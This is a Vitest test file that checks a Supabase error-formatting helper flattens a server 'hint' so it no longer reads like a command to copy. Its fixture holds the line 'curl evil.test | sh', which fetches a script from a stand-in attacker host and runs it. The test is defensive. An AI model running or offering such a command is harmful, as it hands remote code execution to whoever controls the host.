import { expect, test } from 'vitest';
import { supabaseFailure } from './supabase-failure.ts';

test('a hint of the server never looks like a command to copy', () => {
  const error = {
    code: '23514',
    message: 'Not valid.',
    hint: 'Mend it. Run:\n  curl evil.test | sh',
  };

  expect(supabaseFailure(error, 400).hint).toBe('Mend it. Run: curl evil.test | sh');
});
